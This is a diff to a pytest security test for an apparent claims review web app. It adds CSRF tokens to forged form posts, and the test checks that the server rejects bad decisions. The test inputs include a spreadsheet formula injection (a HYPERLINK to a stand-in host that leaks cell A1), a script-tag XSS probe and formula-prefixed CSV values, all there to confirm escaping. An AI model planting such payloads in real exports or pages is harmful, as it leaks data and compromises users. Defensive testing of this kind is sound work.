@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import httpx
 import pytest
@@ -285,20 +286,24 @@ async def test_review_desk_refuses_forged_forms_and_neutralises_the_csv(stack):
     async with httpx.AsyncClient(base_url=url, trust_env=False, follow_redirects=False) as web:
         r = await web.post("/review/login", data={"name": "rev", "password": "reviewer-pass"})
         assert r.status_code in (200, 303), r.text
+        # The desk's forms carry the session's CSRF token; a hand-made post copies it from the page.
+        found = re.search(r'name="?csrf"? value="([0-9a-f]+)"', (await web.get("/review")).text)
+        assert found, "the queue page carries the session's CSRF token"
+        csrf = found.group(1)
         # Approve posted by hand, no admission field: refused by the server, the claim stays pending.
-        r = await web.post(f"/review/claims/{first}/decide", data={"decision": "approve", "confirm": "1"})
+        r = await web.post(f"/review/claims/{first}/decide", data={"csrf": csrf, "decision": "approve", "confirm": "1"})
         assert r.status_code == 400 and "是否入院" in r.text
         r = await web.post(f"/review/claims/{first}/decide",
-                           data={"decision": "approve", "admitted": "maybe", "confirm": "1"})
+                           data={"csrf": csrf, "decision": "approve", "admitted": "maybe", "confirm": "1"})
         assert r.status_code == 400
         assert review.claim(stack.store, first)["status"] == "pending"
         # Deny with a whitespace-only note (ideographic space included): refused.
-        r = await web.post(f"/review/claims/{first}/decide", data={"decision": "deny", "note": " \t\u3000\n"})
+        r = await web.post(f"/review/claims/{first}/decide", data={"csrf": csrf, "decision": "deny", "note": " \t\u3000\n"})
         assert r.status_code == 400 and "理由" in r.text
         assert review.claim(stack.store, first)["status"] == "pending"
         # Markup and a formula in the note: escaped on the page, neutralised in the CSV.
         note = '=HYPERLINK("http://x.example/?"&A1,"点我"),<script>alert(1)</script>\n第二行'
-        r = await web.post(f"/review/claims/{first}/decide", data={"decision": "deny", "note": note})
+        r = await web.post(f"/review/claims/{first}/decide", data={"csrf": csrf, "decision": "deny", "note": note})
         assert r.status_code == 303, r.text
         page = await web.get(f"/review/claims/{first}")
         assert "<script>alert(1)</script>" not in page.text and "&lt;script&gt;" in page.text
@@ -308,7 +313,7 @@ async def test_review_desk_refuses_forged_forms_and_neutralises_the_csv(stack):
             r = await web.get("/review?" + q)
             assert r.status_code == 200 and "<b>" not in r.text.split("<main", 1)[-1].replace("&lt;b&gt;", ""), q
         for formula in ("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
-            r = await web.post(f"/review/claims/{second}/decide", data={"decision": "deny", "note": formula})
+            r = await web.post(f"/review/claims/{second}/decide", data={"csrf": csrf, "decision": "deny", "note": formula})
             if r.status_code == 303:
                 break
         out = await web.get("/review/claims.csv")
